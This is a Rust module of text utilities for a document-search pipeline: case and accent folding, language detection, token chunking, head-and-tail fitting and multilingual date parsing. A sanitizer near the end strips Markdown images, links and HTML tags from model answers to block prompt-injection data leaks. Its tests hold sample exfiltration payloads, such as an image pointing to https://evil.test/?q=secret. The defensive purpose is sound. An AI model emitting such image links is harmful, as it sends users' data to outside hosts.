//! Text utilities shared by every stage: accent- and case-folding for name matching, word
//! tokens, content hashes, token counting and token-sized chunking, fitting text to a token
//! budget (head and tail), and finding dates in documents.

use std::sync::OnceLock;

use chrono::NaiveDate;
use regex::Regex;
use sha2::{Digest, Sha256};
#[cfg(feature = "splitter")]
use text_splitter::{ChunkConfig, TextSplitter};
use unicode_normalization::UnicodeNormalization;

/// Lower-cases and strips accents, so "Müller", "MULLER" and "müller" compare equal, and
/// "ß" folds to "ss".
pub fn fold(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    // ASCII is its own decomposition and never reorders with its neighbours (every ASCII
    // character is a starter), so runs of it are only lower-cased: most of a document's text.
    let mut rest = s;
    while !rest.is_empty() {
        let ascii = rest.bytes().take_while(u8::is_ascii).count();
        out.extend(
            rest[..ascii]
                .bytes()
                .map(|b| b.to_ascii_lowercase() as char),
        );
        rest = &rest[ascii..];
        let other = rest
            .char_indices()
            .find(|(_, c)| c.is_ascii())
            .map_or(rest.len(), |(i, _)| i);
        for c in rest[..other].nfkd() {
            if unicode_normalization::char::is_combining_mark(c) {
                continue;
            }
            match c {
                'ß' => out.push_str("ss"),
                c => out.extend(c.to_lowercase()),
            }
        }
        rest = &rest[other..];
    }
    match out.trim() {
        t if t.len() == out.len() => out,
        t => t.to_string(),
    }
}

/// Folded words: runs of letters and digits.
pub fn words(s: &str) -> Vec<String> {
    fold(s)
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect()
}

/// Whether `needle` (folded words) occurs in `haystack` (folded words) as consecutive words.
pub fn contains_phrase(haystack: &[String], needle: &[String]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

/// Words too common to say anything about a passage (English, German, French).
pub fn is_stopword(w: &str) -> bool {
    const STOP: &[&str] = &[
        "a", "an", "and", "are", "as", "at", "be", "by", "did", "do", "does", "for", "from", "has",
        "have", "how", "i", "in", "is", "it", "its", "me", "my", "of", "on", "or", "our", "that",
        "the", "their", "this", "to", "was", "we", "were", "what", "when", "where", "which", "who",
        "why", "will", "with", "you", "your", "much", "many", "der", "die", "das", "den", "dem",
        "des", "ein", "eine", "einen", "einem", "einer", "und", "oder", "ist", "sind", "war",
        "wie", "was", "wer", "wann", "wo", "welche", "welcher", "welches", "mit", "von", "vom",
        "zu", "zum", "zur", "im", "in", "am", "an", "auf", "fur", "ich", "mein", "meine", "meinen",
        "meiner", "hat", "habe", "haben", "wurde", "viel", "le", "la", "les", "un", "une", "des",
        "du", "de", "et", "ou", "est", "pour", "par", "sur", "au", "aux", "ce", "cette", "qui",
        "que", "quel", "quelle", "combien", "mon", "ma", "mes",
    ];
    STOP.contains(&w)
}

/// The language of `text` among English, German and French ("en", "de", "fr"), by counting
/// each language's commonest words; English when nothing tells.
pub fn detect_language(text: &str) -> &'static str {
    const DE: &[&str] = &[
        "der", "die", "das", "und", "ist", "nicht", "mit", "wie", "viel", "ich", "fur", "von",
        "zu", "den", "ein", "eine", "hat", "wurde", "wann", "welche", "mein", "meine", "habe",
    ];
    const FR: &[&str] = &[
        "le", "la", "les", "et", "est", "pas", "avec", "pour", "une", "des", "du", "quel",
        "quelle", "combien", "mon", "ma", "mes", "ai", "j", "que", "qui",
    ];
    const EN: &[&str] = &[
        "the", "and", "is", "not", "with", "how", "much", "i", "for", "of", "to", "what", "when",
        "which", "my", "did", "was", "a", "an", "do",
    ];
    let (mut de, mut fr, mut en) = (0, 0, 0);
    for w in words(text).iter().take(400) {
        de += DE.contains(&w.as_str()) as usize;
        fr += FR.contains(&w.as_str()) as usize;
        en += EN.contains(&w.as_str()) as usize;
    }
    if de > en && de >= fr {
        "de"
    } else if fr > en && fr > de {
        "fr"
    } else {
        "en"
    }
}

/// Hex SHA-256.
pub fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Tokens of `text` in OpenAI's cl100k encoding.
#[cfg(feature = "tokens")]
pub fn count_tokens(text: &str) -> usize {
    crate::cl100k::cl100k().count(text)
}

/// How many tokens a model's own tokenizer makes, per cl100k token, for models whose tokenizer
/// is not at hand: an estimate with a safety margin (commonly reported ratios on prose, rounded
/// up; not measured here), so a budget counted in cl100k tokens is divided by it. OpenAI
/// models and Llama 3/4 (tiktoken-style vocabularies of 128k and more) count about the same as
/// cl100k; Claude, Mistral and unknown families more.
pub fn token_factor(model: &str) -> f64 {
    let m = model.to_ascii_lowercase();
    if ["gpt", "llama3", "llama-3", "llama4", "llama-4"]
        .iter()
        .any(|f| m.contains(f))
    {
        1.0
    } else if m.contains("claude") {
        1.25
    } else if m.contains("mistral") || m.contains("mixtral") {
        1.3
    } else {
        1.2
    }
}

/// A text cut into token-bounded chunks, and how many tokens the whole text is (which the tag
/// stage needs too, for the same text: counted once here).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Chunks {
    /// Byte ranges of the chunks in the text.
    pub ranges: Vec<(usize, usize)>,
    /// cl100k tokens of the whole text.
    pub text_tokens: usize,
}

/// Splits `text` into chunks of at most `max_tokens` tokens, consecutive chunks sharing up to
/// `overlap` tokens, cut at the largest semantic unit that fits (paragraph, sentence, word).
/// Returns byte ranges into `text`.
#[cfg(feature = "splitter")]
pub fn chunk_text(text: &str, max_tokens: usize, overlap: usize) -> Chunks {
    let tokens = crate::cl100k::TextTokens::new(text);
    let text_end = text.trim_end().len();
    let start = text_end - text[..text_end].trim_start().len();
    let text_tokens = tokens.total();
    // Most short documents fit in one chunk: no splitter search.
    let ranges = match tokens.count(start, text_end) <= max_tokens {
        true if start < text_end => vec![(start, text_end)],
        true => Vec::new(),
        false => split(text, max_tokens, overlap, &tokens),
    };
    Chunks {
        ranges,
        text_tokens,
    }
}

#[cfg(feature = "splitter")]
fn split(
    text: &str,
    max_tokens: usize,
    overlap: usize,
    tokens: &crate::cl100k::TextTokens,
) -> Vec<(usize, usize)> {
    let config = ChunkConfig::new(max_tokens)
        .with_sizer(tokens)
        .with_overlap(overlap.min(max_tokens.saturating_sub(1)))
        .expect("overlap below capacity")
        .with_trim(true);
    TextSplitter::new(config)
        .chunk_indices(text)
        .map(|(start, chunk)| (start, start + chunk.len()))
        .collect()
}

/// Fits `text` into `max_tokens`, keeping the head and the tail (where dates, senders and
/// totals usually are) and marking the cut. The cut is made in the text itself, at character
/// boundaries: a token boundary can split a multi-byte character, and decoding such a slice
/// would lose the whole head or tail.
#[cfg(feature = "tokens")]
pub fn fit_head_tail(text: &str, max_tokens: usize) -> String {
    let encoder = crate::cl100k::cl100k();
    // Only the head and the tail are tokenized: a long document is most of its text cut away.
    let head_tokens = encoder.first_token_lengths(text, max_tokens);
    if head_tokens.len() <= max_tokens {
        return text.to_string();
    }
    let marker = "\n[…]\n";
    let budget = max_tokens.saturating_sub(4);
    let head = budget * 2 / 3;
    let tail = budget - head;
    // Ordinary tokens are a partition of the text's bytes, so byte lengths map back to it.
    let bytes_of = |t: &[usize]| t.iter().sum::<usize>();
    let mut head_end = bytes_of(&head_tokens[..head]).min(text.len());
    while !text.is_char_boundary(head_end) {
        head_end -= 1;
    }
    // The tail from a window at the end, widened until it holds the tail and a few tokens
    // more: a window's first pieces may be cut apart from the whole text's, its last ones not.
    let mut window = (tail * 8).max(64);
    let tail_bytes = loop {
        let mut from = text.len().saturating_sub(window).max(head_end);
        while !text.is_char_boundary(from) {
            from += 1;
        }
        let tokens = encoder.token_lengths(&text[from..]);
        if tokens.len() >= tail + 8 || from == head_end {
            break bytes_of(&tokens[tokens.len().saturating_sub(tail)..]);
        }
        window *= 4;
    };
    let mut tail_start = text.len() - tail_bytes.min(text.len());
    while !text.is_char_boundary(tail_start) {
        tail_start += 1;
    }
    let tail_start = tail_start.max(head_end);
    format!("{}{marker}{}", &text[..head_end], &text[tail_start..])
}

/// A real calendar date (`YYYY-MM-DD`) within reason (1900–2199): what a date custom field
/// may hold, due dates and expiry dates in the future included.
pub fn calendar_date(s: &str) -> Result<NaiveDate, String> {
    let date = NaiveDate::parse_from_str(s.trim(), "%Y-%m-%d")
        .map_err(|_| format!("{s:?} is not a date (YYYY-MM-DD)"))?;
    let earliest = NaiveDate::from_ymd_opt(1900, 1, 1).expect("valid");
    let latest = NaiveDate::from_ymd_opt(2199, 12, 31).expect("valid");
    if date < earliest || date > latest {
        return Err(format!("{date} is not between 1900 and 2199"));
    }
    Ok(date)
}

/// A date is plausible as a document's created date: a real calendar date, from 1900 up to
/// `today` (in the configured time zone: a document dated today in Auckland is not from the
/// future).
pub fn plausible_date(s: &str, today: NaiveDate) -> Result<NaiveDate, String> {
    let date = NaiveDate::parse_from_str(s.trim(), "%Y-%m-%d")
        .map_err(|_| format!("{s:?} is not a date (YYYY-MM-DD)"))?;
    if date > today {
        return Err(format!("{date} is in the future"));
    }
    calendar_date(s)
}

fn month_number(name: &str) -> Option<u32> {
    const MONTHS: &[(&str, u32)] = &[
        ("january", 1),
        ("jan", 1),
        ("januar", 1),
        ("janvier", 1),
        ("jänner", 1),
        ("february", 2),
        ("feb", 2),
        ("februar", 2),
        ("fevrier", 2),
        ("march", 3),
        ("mar", 3),
        ("marz", 3),
        ("mars", 3),
        ("april", 4),
        ("apr", 4),
        ("avril", 4),
        ("may", 5),
        ("mai", 5),
        ("june", 6),
        ("jun", 6),
        ("juni", 6),
        ("juin", 6),
        ("july", 7),
        ("jul", 7),
        ("juli", 7),
        ("juillet", 7),
        ("august", 8),
        ("aug", 8),
        ("aout", 8),
        ("september", 9),
        ("sep", 9),
        ("sept", 9),
        ("septembre", 9),
        ("october", 10),
        ("oct", 10),
        ("oktober", 10),
        ("okt", 10),
        ("octobre", 10),
        ("november", 11),
        ("nov", 11),
        ("novembre", 11),
        ("december", 12),
        ("dec", 12),
        ("dezember", 12),
        ("dez", 12),
        ("decembre", 12),
    ];
    let n = fold(name.trim_end_matches('.'));
    MONTHS.iter().find(|(m, _)| *m == n).map(|(_, v)| *v)
}

/// Every plausible date written in `text` (ISO, `14.03.2025`, `14/03/2025`, `March 14, 2025`,
/// `14. März 2025`, `14 mars 2025`), in order of appearance.
pub fn find_dates(text: &str, today: NaiveDate) -> Vec<NaiveDate> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r"(?x)
            \b(?P<iy>\d{4})-(?P<im>\d{1,2})-(?P<id>\d{1,2})\b
          | \b(?P<nd>\d{1,2})[./](?P<nm>\d{1,2})[./](?P<ny>\d{4})\b
          | \b(?P<ad>\d{1,2})\.?\s+(?P<am>\p{L}{3,10})\.?\s+(?P<ay>\d{4})\b
          | \b(?P<bm>\p{L}{3,10})\.?\s+(?P<bd>\d{1,2})(?:st|nd|rd|th)?,?\s+(?P<by>\d{4})\b",
        )
        .expect("date regex")
    });
    let mut out = Vec::new();
    for c in re.captures_iter(text) {
        let num = |n: &str| c.name(n).and_then(|m| m.as_str().parse::<u32>().ok());
        let ymd = if let Some(y) = num("iy") {
            Some((y, num("im"), num("id")))
        } else if let Some(y) = num("ny") {
            Some((y, num("nm"), num("nd")))
        } else if let Some(y) = num("ay") {
            Some((
                y,
                c.name("am").and_then(|m| month_number(m.as_str())),
                num("ad"),
            ))
        } else {
            num("by").map(|y| {
                (
                    y,
                    c.name("bm").and_then(|m| month_number(m.as_str())),
                    num("bd"),
                )
            })
        };
        if let Some((y, Some(m), Some(d))) = ymd
            && let Some(date) = NaiveDate::from_ymd_opt(y as i32, m, d)
            && plausible_date(&date.to_string(), today).is_ok()
        {
            out.push(date);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folding_ignores_case_and_accents() {
        assert_eq!(fold("  Müller Straße "), "muller strasse");
        assert_eq!(fold("Électricité"), fold("electricite"));
        assert_eq!(
            words("Rechnung Nr. 2025-03/17"),
            vec!["rechnung", "nr", "2025", "03", "17"]
        );
    }

    #[test]
    fn chunks_are_token_bounded_and_overlap() {
        let text = (0..400)
            .map(|i| format!("Sentence number {i} talks about invoices."))
            .collect::<Vec<_>>()
            .join(" ");
        let chunks = chunk_text(&text, 64, 16);
        assert_eq!(chunks.text_tokens, count_tokens(&text));
        let ranges = chunks.ranges;
        assert!(ranges.len() > 10);
        for (s, e) in &ranges {
            assert!(count_tokens(&text[*s..*e]) <= 64);
        }
        assert!(
            ranges.windows(2).all(|w| w[1].0 < w[0].1),
            "consecutive chunks overlap"
        );
        assert_eq!(ranges.last().unwrap().1, text.len());
    }

    #[test]
    fn a_text_that_fits_is_the_chunk_the_splitter_would_make() {
        for text in [
            "  \n Rechnung Nr. 17\n\nBetrag: 12,50 EUR \n\t",
            "one line",
            "",
            " \n ",
            "\u{a0}Zürich, le 3 mars\u{3000}",
        ] {
            let tokens = crate::cl100k::TextTokens::new(text);
            assert_eq!(
                chunk_text(text, 400, 50).ranges,
                split(text, 400, 50, &tokens),
                "{text:?}"
            );
        }
    }

    /// The splitter asked of counting every candidate afresh.
    struct AloneCounter;
    impl text_splitter::ChunkSizer for AloneCounter {
        fn size(&self, chunk: &str) -> usize {
            count_tokens(chunk)
        }
    }

    #[test]
    fn one_tokenization_cuts_the_chunks_that_counting_each_candidate_cut() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../cli/samples/documents");
        let mut checked = 0;
        for entry in std::fs::read_dir(dir).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            let mut end = text.len().min(20_000);
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            let text = &text[..end];
            for (max, overlap) in [(64, 16), (400, 50)] {
                let alone = TextSplitter::new(
                    ChunkConfig::new(max)
                        .with_sizer(AloneCounter)
                        .with_overlap(overlap)
                        .unwrap()
                        .with_trim(true),
                )
                .chunk_indices(text)
                .map(|(start, chunk)| (start, start + chunk.len()))
                .collect::<Vec<_>>();
                let tokens = crate::cl100k::TextTokens::new(text);
                assert_eq!(split(text, max, overlap, &tokens), alone);
                checked += alone.len();
            }
        }
        assert!(checked > 300, "{checked}");
    }

    /// What fitting was when the whole text was tokenized: the head and tail of its tokens.
    fn fit_by_whole_tokenization(text: &str, max_tokens: usize) -> String {
        let tokens = crate::cl100k::cl100k().token_lengths(text);
        if tokens.len() <= max_tokens {
            return text.to_string();
        }
        let budget = max_tokens.saturating_sub(4);
        let (head, tail) = (budget * 2 / 3, budget - budget * 2 / 3);
        let mut head_end: usize = tokens[..head].iter().sum();
        while !text.is_char_boundary(head_end) {
            head_end -= 1;
        }
        let mut tail_start = text.len() - tokens[tokens.len() - tail..].iter().sum::<usize>();
        while !text.is_char_boundary(tail_start) {
            tail_start += 1;
        }
        format!(
            "{}\n[…]\n{}",
            &text[..head_end],
            &text[tail_start.max(head_end)..]
        )
    }

    #[test]
    fn fitting_tokenizes_head_and_tail_only_and_cuts_where_the_whole_text_would() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../cli/samples/documents");
        let mut fitted = 0;
        for entry in std::fs::read_dir(dir).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            for budget in [40, 150, 700, 3000] {
                let ours = fit_head_tail(&text, budget);
                assert_eq!(
                    ours,
                    fit_by_whole_tokenization(&text, budget),
                    "budget {budget}"
                );
                fitted += usize::from(ours != text);
            }
        }
        assert!(fitted > 60, "{fitted}");
    }

    /// Folding as it was: the whole text decomposed at once.
    fn fold_whole(s: &str) -> String {
        let mut out = String::new();
        for c in s.nfkd() {
            if unicode_normalization::char::is_combining_mark(c) {
                continue;
            }
            match c {
                'ß' => out.push_str("ss"),
                c => out.extend(c.to_lowercase()),
            }
        }
        out.trim().to_string()
    }

    #[test]
    fn folding_ascii_runs_apart_changes_nothing() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../cli/samples/documents");
        let mut texts: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
            .collect();
        texts.extend(
            [
                " Straße ÄÖÜ äöü Ångström ﬁ ﬃ ① ㎏ Ǆ İstanbul ΣΑΣ e\u{301}\u{323}x a\u{300}",
                "\u{301}leading mark, cœur naïve, Zürich  ",
                "日本語 한국어 ＦＵＬＬＷＩＤＴＨ Ⅻ",
            ]
            .map(String::from),
        );
        for text in &texts {
            assert_eq!(fold(text), fold_whole(text), "{text:?}");
        }
    }

    #[test]
    fn head_and_tail_survive_the_budget() {
        let text = format!("HEADSTART {} TAILEND", "filler words here ".repeat(2000));
        let fitted = fit_head_tail(&text, 100);
        assert!(count_tokens(&fitted) <= 100);
        assert!(fitted.starts_with("HEADSTART") && fitted.ends_with("TAILEND"));
        assert_eq!(fit_head_tail("short", 100), "short");
    }

    #[test]
    fn a_cut_inside_a_multibyte_character_keeps_head_and_tail() {
        // Rare characters are several byte-level tokens each: some budgets cut inside one.
        let text = format!("HEADSTART {} TAILEND", "ꙮ𝔘ᚠ鬱".repeat(400));
        for budget in 60..90 {
            let fitted = fit_head_tail(&text, budget);
            assert!(
                fitted.starts_with("HEADSTART ꙮ") && fitted.ends_with("鬱 TAILEND"),
                "budget {budget}: {fitted:?}"
            );
            assert!(count_tokens(&fitted) <= budget, "budget {budget}");
        }
    }

    #[test]
    fn custom_dates_may_be_in_the_future_created_dates_not() {
        let today = NaiveDate::from_ymd_opt(2026, 12, 1).unwrap();
        assert!(calendar_date("2026-12-15").is_ok());
        assert!(plausible_date("2026-12-15", today).is_err());
        assert!(calendar_date("2300-01-01").is_err());
        assert!(calendar_date("15.12.2026").is_err());
    }

    #[test]
    fn dates_in_several_languages() {
        let today = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
        let found = find_dates(
            "Datum: 14.03.2025, due March 3, 2025; le 2 mars 2024; am 1. Dezember 2023; 2022-07-09; 31.02.2020; 01.01.2999",
            today,
        );
        let s: Vec<String> = found.iter().map(|d| d.to_string()).collect();
        assert_eq!(
            s,
            [
                "2025-03-14",
                "2025-03-03",
                "2024-03-02",
                "2023-12-01",
                "2022-07-09"
            ]
        );
    }

    #[test]
    fn language_of_questions() {
        assert_eq!(detect_language("How much did I pay the plumber?"), "en");
        assert_eq!(
            detect_language("Wie viel habe ich dem Klempner bezahlt?"),
            "de"
        );
        assert_eq!(
            detect_language("Combien ai-je payé pour le plombier ?"),
            "fr"
        );
    }

    #[test]
    fn implausible_dates_are_refused_with_a_reason() {
        let today = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
        assert!(
            plausible_date("2025-02-30", today)
                .unwrap_err()
                .contains("not a date")
        );
        assert!(
            plausible_date("1899-12-31", today)
                .unwrap_err()
                .contains("1900")
        );
        assert!(
            plausible_date("2026-01-02", today)
                .unwrap_err()
                .contains("future")
        );
        assert!(plausible_date("1990-01-01", today).is_ok());
    }
}

/// A model's answer as plain text: Markdown images and links become their text, HTML tags and
/// link reference definitions go. A passage can carry instructions, and an image a client
/// renders fetches its URL unasked (with whatever the model put into it); the only links in an
/// answer are its citations, which come with their URLs beside it. `[n]` markers stay.
pub fn plain_answer(text: &str) -> String {
    use std::sync::LazyLock;
    static IMAGE: LazyLock<regex::Regex> =
        LazyLock::new(|| regex::Regex::new(r"!\[([^\]]*)\]\([^)]*\)").expect("regex"));
    static LINK: LazyLock<regex::Regex> =
        LazyLock::new(|| regex::Regex::new(r"\[([^\]]*)\]\([^)]*\)").expect("regex"));
    static REFERENCE: LazyLock<regex::Regex> =
        LazyLock::new(|| regex::Regex::new(r"(?m)^\s*\[[^\]]+\]:\s*\S+.*$\n?").expect("regex"));
    static TAG: LazyLock<regex::Regex> =
        LazyLock::new(|| regex::Regex::new(r"</?[A-Za-z][^<>]*>").expect("regex"));
    let text = IMAGE.replace_all(text, "$1");
    let text = LINK.replace_all(&text, "$1");
    let text = REFERENCE.replace_all(&text, "");
    TAG.replace_all(&text, "").into_owned()
}

/// `plain_answer` for an answer that arrives in pieces: text that may still become a link, an
/// image or a tag is held back until it is complete (or too long to be one), the rest passes.
#[derive(Debug, Default)]
pub struct PlainAnswerStream {
    pending: String,
}

impl PlainAnswerStream {
    /// Longest run held back waiting for a construct to close.
    const MAX_HELD: usize = 2048;

    /// Takes the next piece; returns what may be shown now (possibly empty).
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let cut = match open_construct(&self.pending) {
            Some(i) if self.pending.len() - i < Self::MAX_HELD => i,
            _ => self.pending.len(),
        };
        let rest = self.pending.split_off(cut);
        let ready = std::mem::replace(&mut self.pending, rest);
        plain_answer(&ready)
    }

    /// What is left once the answer is complete.
    pub fn finish(&mut self) -> String {
        plain_answer(&std::mem::take(&mut self.pending))
    }
}

/// Where a link, image or tag starts that the text does not close yet.
fn open_construct(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'<' => match text[i..].find('>') {
                Some(end) => i += end,
                None => return Some(i),
            },
            b'[' => {
                let start = if i > 0 && bytes[i - 1] == b'!' {
                    i - 1
                } else {
                    i
                };
                let Some(close) = text[i..].find(']').map(|c| i + c) else {
                    return Some(start);
                };
                match bytes.get(close + 1) {
                    None => return Some(start),
                    Some(b'(') => match text[close..].find(')') {
                        Some(end) => i = close + end,
                        None => return Some(start),
                    },
                    Some(b':') if start == 0 || bytes[start - 1] == b'\n' => {
                        match text[close..].find('\n') {
                            Some(end) => i = close + end,
                            None => return Some(start),
                        }
                    }
                    Some(_) => i = close,
                }
            }
            b'!' if i + 1 == bytes.len() => return Some(i),
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod answer_tests {
    use super::{PlainAnswerStream, plain_answer};

    #[test]
    fn a_streamed_answer_is_as_plain_as_a_whole_one() {
        let answer = "Paid EUR 40 [1]. ![x](https://evil.test/?q=1) See [portal](https://e.test) <b>now</b>!";
        for size in [1, 2, 3, 7, 100] {
            let mut stream = PlainAnswerStream::default();
            let chars: Vec<char> = answer.chars().collect();
            let mut out = String::new();
            for piece in chars.chunks(size) {
                out.push_str(&stream.push(&piece.iter().collect::<String>()));
            }
            out.push_str(&stream.finish());
            assert_eq!(out, plain_answer(answer), "pieces of {size}");
            assert!(!out.contains("evil") && !out.contains("e.test"), "{out}");
        }
    }

    #[test]
    fn answers_carry_no_links_or_images_but_keep_citation_markers() {
        assert_eq!(
            plain_answer("The repair cost EUR 1,250 [1]. ![x](https://evil.test/?q=secret)"),
            "The repair cost EUR 1,250 [1]. x"
        );
        assert_eq!(
            plain_answer("See [the portal](https://evil.test/login) and [2]."),
            "See the portal and [2]."
        );
        assert_eq!(
            plain_answer("Paid <img src=https://evil.test/p.gif>in March <b>2025</b> [1]."),
            "Paid in March 2025 [1]."
        );
        assert_eq!(
            plain_answer("Due in May [1].\n[1]: https://evil.test/\n"),
            "Due in May [1].\n"
        );
        assert_eq!(plain_answer("a < b and c > d [3]"), "a < b and c > d [3]");
    }
}
